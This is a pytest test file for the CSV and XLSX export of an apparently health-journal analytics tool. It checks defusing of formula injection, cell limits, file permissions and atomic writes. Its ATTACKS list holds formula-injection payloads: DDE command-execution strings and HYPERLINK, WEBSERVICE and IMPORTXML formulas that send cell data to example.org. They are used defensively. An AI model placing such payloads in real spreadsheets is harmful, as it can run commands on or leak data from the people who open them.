"""The copy for spreadsheets: text stays text, numbers stay numbers, and the archive is not touched."""

import csv
import io
import re
import stat
import sys
import zipfile
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from xml.etree import ElementTree as ET

import openpyxl
import pytest
from frames_for_tests import make_frames, score, strange_frames, table
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from psoas_analytics.catalog import load_catalog
from psoas_analytics.demo import demo_journal
from psoas_analytics.exchange import read_archive, write_archive, write_spreadsheet
from psoas_analytics.exchange.spreadsheet import MOST_CHARS, defused, fit
from psoas_analytics.journal import open_journal
from psoas_analytics.plan import starter_plan

SHEETS = [
    "About",
    "Sessions",
    "Sets",
    "Pain",
    "Flexibility",
    "Questionnaires",
    "Habits",
    "Skips",
    "No exercise",
    "Pauses",
    "Plans",
    "Events",
    "Questions",
]
SPACE = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
# What starts a formula in some program, and the ways to hide that start.
ATTACKS = [
    *(f"{start}1+1" for start in "=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b"),
    '=HYPERLINK("http://example.org?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=WEBSERVICE("http://example.org/"&B2)',
    "=IMPORTXML(CONCAT(\"http://example.org/\",A1),\"//a\")",
    " =1+1",
    "\u00a0=1+1",
    "\u3000\uff1d1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "'=1+1",
    '"=1+1',
    '""=1+1',
    'a",=1+1,"',
    "a;=1+1",
    "a; =1+1",
    "a|=1+1",
    "a\t=1+1",
    "a,=1+1",
    "a\n=1+1",
    "a\r=1+1",
    "a\r\n=1+1",
    'a"\n=1+1,"b',
    'a;"=1+1"',
    "a;'=1+1",
    ";;;=1+1",
    "=",
    "-",
    "#N/A",
    "#REF!",
    "TRUE",
    "1e5",
    "00012",
    "2026-03-01",
]  # fmt: skip
STARTS = tuple("=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b")
DROPPED = " \t\r\n\u00a0\u3000\u200b\ufeff\u2028\x85\x0b\x0c\"'"
NUMBER = re.compile(r"-?\d+(\.\d+)?(e-?\d+)?")
PIECES = [*STARTS, *",;|\t\n\r\"' a1", "\u00a0", "\u200b", "\ufeff", "x_x0041_", "他", "👩🏽‍⚕️"]
WORDS = (
    st.sampled_from(ATTACKS)
    | st.lists(st.sampled_from(PIECES), max_size=12).map("".join)
    | st.text(st.characters(exclude_categories=["Cs"]), max_size=30)
)


@pytest.fixture(scope="module")
def demo():
    with demo_journal() as journal:
        yield journal


class Stub:
    """Stands for a journal: gives frames that a journal would refuse to hold."""

    def __init__(self, frames):
        self._frames = frames

    def frames(self):
        return self._frames


def frames_with(*texts):
    """Frames that hold each text wherever a person can type one."""
    day = "2026-03-02"
    made = make_frames(
        today=day,
        pain=[score(day, 3, site=f"other: {text}") | {"note": text} for text in texts],
        questionnaires=[
            {"day": day, "response_id": "r", "instrument": "PSFS", "item": text, "score": 4} for text in texts
        ],
        skips=[(day, None, text) for text in texts],
    )
    return replace(made, questions=table("questions", [{"day": day, "text": text} for text in texts]))


def sheet_cells(path):
    """Every cell of a workbook as its XML has it: sheet, kind, text or number, style."""
    with zipfile.ZipFile(path) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                root = ET.fromstring(book.read(name))  # noqa: S314 - we wrote it
                assert not list(root.iter(f"{SPACE}f")), "a formula"
                assert not list(root.iter(f"{SPACE}hyperlink")), "a link"
                for cell in root.iter(f"{SPACE}c"):
                    text = "".join(part.text or "" for part in cell.iter(f"{SPACE}t"))
                    yield name, cell.get("t"), text, int(cell.get("s", 0))


def quote_prefixed(path):
    """Numbers of the styles that mark a cell as text."""
    with zipfile.ZipFile(path) as book:
        root = ET.fromstring(book.read("xl/styles.xml"))  # noqa: S314 - we wrote it
    styles = root.find(f"{SPACE}cellXfs")
    return {place for place, style in enumerate(styles) if style.get("quotePrefix") == "1"}


def assert_no_formula(folder):
    """However a program splits the lines, no cell begins as a formula, unless it is a number."""
    for file in folder.iterdir():
        text = file.read_bytes().decode("utf-8-sig")
        for delimiter in ",;\t|":
            for line in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
                for cell in line:
                    bare = cell.lstrip(DROPPED)
                    quoted = cell.lstrip(DROPPED.replace("'", "")).startswith("'")
                    assert quoted or not bare.startswith(STARTS) or NUMBER.fullmatch(cell), (file.name, cell)
                    assert delimiter != "," or not cell.startswith(("\t", "\r", "\n")), (file.name, cell)
        for line in re.split(r"\r\n|\r|\n", text):
            assert not line.lstrip(DROPPED.replace("'", "")).startswith(STARTS), (file.name, line)


# ---------------------------------------------------------------- text stays text


def test_what_looks_like_a_formula_stands_as_text_in_a_workbook(tmp_path):
    path = write_spreadsheet(Stub(frames_with(*ATTACKS)), tmp_path / "copy.xlsx")
    assert {kind for _, kind, _, _ in sheet_cells(path)} == {"n", "inlineStr"}
    marked, styles = quote_prefixed(path), {}
    for _, _, text, style in sheet_cells(path):
        styles.setdefault(text, set()).add(style)
    for text in ATTACKS:
        as_kept = text.replace("\r\n", "\n").replace("\r", "\n")
        assert as_kept in styles
        if text.startswith(STARTS):
            assert styles[as_kept] <= marked


def test_no_attack_begins_a_cell_of_csv_however_it_is_split(tmp_path):
    folder = write_spreadsheet(Stub(frames_with(*ATTACKS)), tmp_path / "copy")
    assert_no_formula(folder)


@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@example(texts=['";=1'], number=-5.0)
@given(texts=st.lists(WORDS, min_size=1, max_size=8), number=st.floats(-90, 60))
def test_no_text_begins_a_cell_of_csv_and_every_number_stays_one(texts, number, tmp_path_factory):
    day = "2026-03-02"
    angle = {"day": day, "test": "modified_thomas_hip_extension", "value": number, "unit": "deg"}
    frames = replace(
        frames_with(*texts),
        flexibility=make_frames(today=day, flexibility=[angle]).flexibility,
    )
    folder = write_spreadsheet(Stub(frames), tmp_path_factory.mktemp("copies") / "copy")
    assert_no_formula(folder)
    with (folder / "flexibility.csv").open(encoding="utf-8-sig", newline="") as file:
        (line,) = csv.DictReader(file)
    assert float(line["Value"]) == number


@given(WORDS)
def test_a_defused_text_is_the_text_with_apostrophes_added(text):
    safe = defused(text)
    assert safe.replace("'", "") == text.replace("'", "")
    assert not safe.lstrip(DROPPED.replace("'", "")).startswith(STARTS)


def test_ordinary_notes_stay_as_they_are():
    for text in ("4-5 times", "less pain (3/10), better sleep", "a = b", "ann@example.org", "it's fine", ""):
        assert defused(text) == text


def test_a_long_run_of_blanks_takes_no_time():
    # Quadratic work on it would be minutes.
    assert defused("\n" * 200_000 + "x").endswith("\nx")


# ---------------------------------------------------------------- what a cell can hold


def test_characters_that_no_sheet_can_hold_are_replaced(tmp_path):
    path = write_spreadsheet(Stub(frames_with("a\x00b\x0bc\r\nd\re")), tmp_path / "copy.xlsx")
    assert openpyxl.load_workbook(path)["Questions"]["B2"].value == "a\ufffdb\ufffdc\nd\ne"
    assert fit("\ud800x\uffff") == "\ufffdx\ufffd"


def test_a_text_longer_than_a_cell_is_cut_and_says_so():
    for letter in ("x", "他", "👩"):
        cut = fit(letter * 40_000)
        assert len(cut.encode("utf-16-le")) // 2 <= MOST_CHARS
        assert cut.endswith(" [cut]")
    assert fit("x" * MOST_CHARS) == "x" * MOST_CHARS


def test_days_before_the_first_of_march_1900_are_text(tmp_path):
    frames = make_frames(today="1900-03-02", pain=[score("1900-02-28", 3), score("1900-03-01", 4)])
    sheet = openpyxl.load_workbook(write_spreadsheet(Stub(frames), tmp_path / "copy.xlsx"))["Pain"]
    assert sheet["A2"].value == "1900-02-28"
    assert sheet["A3"].value == datetime(1900, 3, 1)


# ---------------------------------------------------------------- what it says


def test_a_workbook_holds_every_table_in_plain_words(demo, tmp_path):
    book = openpyxl.load_workbook(write_spreadsheet(demo, tmp_path / "copy.xlsx"))
    assert book.sheetnames == SHEETS
    assert "SYNTHETIC" in book["About"]["A2"].value
    frames = demo.frames()
    for name in ("sessions", "sets", "pain", "flexibility", "questionnaires", "habits", "skips", "plans"):
        assert book[name.capitalize()].max_row == len(getattr(frames, name)) + 1
    first = dict(zip(*list(book["Sets"].values)[:2], strict=True))
    assert first == {
        "Day": datetime(2026, 9, 7),
        "Session started": datetime(2026, 9, 7, 18, 30),
        "Set": 1,
        "Exercise": "Glute bridge",
        "Side": "both",
        "Repetitions": 15,
        "Hold of each (s)": 6,
        "Pain during (0-10)": 2,
        "Effort (0-10)": None,
    }


def test_times_are_those_of_the_persons_clock(journal, tmp_path):
    journal.log_pain(4, site="low back", at=datetime(2026, 3, 8, 23, 30, 1, 500_000, tzinfo=UTC))
    journal.log_habit("strength", at=datetime(2026, 3, 8, 23, 30, tzinfo=UTC))
    book = openpyxl.load_workbook(write_spreadsheet(journal, tmp_path / "copy.xlsx"))
    assert book["Pain"]["B2"].value == datetime(2026, 3, 8, 23, 30, 1)
    write_spreadsheet(journal, tmp_path / "copy")
    with (tmp_path / "copy" / "habits.csv").open(encoding="utf-8-sig", newline="") as file:
        assert list(csv.reader(file))[1] == ["2026-03-08", "2026-03-08 23:30:00", "strength", "1"]


def test_only_made_up_data_says_that_it_is(journal, demo, tmp_path):
    real = (write_spreadsheet(journal, tmp_path / "real") / "about.csv").read_text(encoding="utf-8-sig")
    made_up = (write_spreadsheet(demo, tmp_path / "demo") / "about.csv").read_text(encoding="utf-8-sig")
    assert ("SYNTHETIC" in real, "SYNTHETIC" in made_up) == (False, True)


@pytest.mark.parametrize("name", strange_frames())
def test_a_journal_at_the_edge_can_be_copied_both_ways(name, tmp_path):
    source = Stub(strange_frames()[name])
    assert openpyxl.load_workbook(write_spreadsheet(source, tmp_path / "copy.xlsx")).sheetnames == SHEETS
    assert len(list(write_spreadsheet(source, tmp_path / "copy").iterdir())) == len(SHEETS)


# ---------------------------------------------------------------- whole or not at all


def test_the_copy_is_for_this_user_alone(demo, tmp_path):
    file = write_spreadsheet(demo, tmp_path / "copy.xlsx")
    folder = write_spreadsheet(demo, tmp_path / "copy")
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert {stat.S_IMODE(one.stat().st_mode) for one in folder.iterdir()} == {0o600}
    assert sorted(one.name for one in tmp_path.iterdir()) == ["copy", "copy.xlsx"]


@pytest.mark.parametrize("name", ["copy.xlsx", "copy"])
def test_nothing_is_overwritten(name, demo, tmp_path):
    (tmp_path / name).write_text("mine")
    with pytest.raises(FileExistsError, match="choose another name"):
        write_spreadsheet(demo, tmp_path / name)
    assert (tmp_path / name).read_text() == "mine"
    assert len(list(tmp_path.iterdir())) == 1


@pytest.mark.parametrize("name", ["copy.xlsx", "copy"])
def test_a_full_disk_leaves_nothing(name, demo, tmp_path, monkeypatch):
    def full(*_):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("psoas_analytics.whole.os.fsync", full)
    with pytest.raises(OSError, match="No space"):
        write_spreadsheet(demo, tmp_path / name)
    assert list(tmp_path.iterdir()) == []


def test_a_name_taken_while_writing_is_kept(demo, tmp_path, monkeypatch):
    path = tmp_path / "copy.xlsx"
    monkeypatch.setattr("psoas_analytics.whole.os.fsync", lambda _: path.write_text("mine"))
    with pytest.raises(FileExistsError, match="choose another name"):
        write_spreadsheet(demo, path)
    assert [one.read_text() for one in tmp_path.iterdir()] == ["mine"]


def test_another_kind_of_file_is_refused(demo, tmp_path):
    for name in ("copy.csv", "copy.XLS", "copy.ods", "copy.zip"):
        with pytest.raises(ValueError, match=f"must end in .xlsx, .*got {name}"):
            write_spreadsheet(demo, tmp_path / name)
    with pytest.raises(FileNotFoundError, match="the folder must be there"):
        write_spreadsheet(demo, tmp_path / "nowhere" / "copy.xlsx")
    assert list(tmp_path.iterdir()) == []


def test_without_openpyxl_a_sentence_says_what_to_do(demo, tmp_path, monkeypatch):
    monkeypatch.setitem(sys.modules, "openpyxl", None)
    with pytest.raises(ModuleNotFoundError, match=r"pip install psoas-analytics\[xlsx\]"):
        write_spreadsheet(demo, tmp_path / "copy.xlsx")
    assert write_spreadsheet(demo, tmp_path / "copy").is_dir()


def test_more_lines_than_a_sheet_holds_are_refused(demo, tmp_path, monkeypatch):
    monkeypatch.setattr("psoas_analytics.exchange.spreadsheet.MOST_LINES", 100)
    with pytest.raises(ValueError, match="a sheet holds at most 100 lines, got 179 of Sets"):
        write_spreadsheet(demo, tmp_path / "copy.xlsx")
    assert list(tmp_path.iterdir()) == []


def test_the_archive_keeps_what_was_typed(journal, tmp_path):
    journal.set_plan(replace(starter_plan(load_catalog()), title="=1+1"), starts_on=date(2026, 3, 1))
    journal.log_question("=1+1", at=journal.now() - timedelta(hours=1))
    write_spreadsheet(journal, tmp_path / "copy.xlsx")
    archive = write_archive(journal, tmp_path / "archive")
    with open_journal(read_archive(archive, tmp_path / "again.sqlite")) as again:
        assert list(again.questions()["text"]) == ["=1+1"]
        assert set(again.plans()["title"]) == {"=1+1"}
        assert write_archive(again, tmp_path / "second").is_dir()
    for file in sorted(Path(archive).iterdir()):
        assert file.read_bytes() == (tmp_path / "second" / file.name).read_bytes()
